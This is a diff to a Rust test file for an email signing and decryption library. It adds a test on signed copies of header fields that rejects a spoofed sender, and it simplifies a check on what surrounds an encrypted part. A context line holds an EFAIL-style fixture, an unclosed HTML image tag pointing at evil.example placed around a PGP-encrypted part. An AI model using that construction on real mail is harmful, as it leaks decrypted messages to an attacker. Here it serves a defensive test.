@@ -68,6 +68,22 @@ fn a_part_is_verified_in_the_form_in_which_it_was_signed() {
 }
 
 #[test]
+fn a_signed_copy_of_the_header_counts_where_it_says_the_same() {
+    let copy = SIGNED.replace("Type: text/plain\r\n", "Type: text/plain; hp=\"clear\"\r\nFrom: a@x\r\n");
+    for (message, wanted) in [
+        (SIGNED.to_owned(), false),
+        (copy.clone(), true),
+        (copy.replacen("From: a@x", "From: eve@x", 1), false),
+        (format!("Subject: added\r\n{copy}"), false),
+        (copy.replace("; hp=\"clear\"", ""), false),
+    ] {
+        let message = Message::parse(message.as_bytes());
+        let part = message.part("1").expect("a part");
+        assert_eq!(protects_header(&message, part), wanted, "{}", message.octets().escape_ascii());
+    }
+}
+
+#[test]
 fn nothing_of_the_message_around_an_envelope_comes_along_but_its_header_fields() {
     let source = "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n\
         <img src=\"https://evil.example/?\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
@@ -76,7 +92,7 @@ fn nothing_of_the_message_around_an_envelope_comes_along_but_its_header_fields()
     let sealed = find(&message).remove(0);
     let inner = opened(&message, &sealed, b"Content-Type: text/plain\r\n\r\nsecret\r\n");
     let wanted = "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nsecret\r\n";
-    assert_eq!(String::from_utf8_lossy(&inner).replace("Subject: x\r\n", "Subject: x\r\n"), wanted);
+    assert_eq!(String::from_utf8_lossy(&inner), wanted);
     // What is in lines of a text cannot become a header field.
     let lines = Sealed { form: Form::EncryptedLines(Lines { at: 0..0, has_text_around: false }), ..sealed };
     let inner = opened(&message, &lines, b"Content-Type: text/html\r\n\r\n<b>");
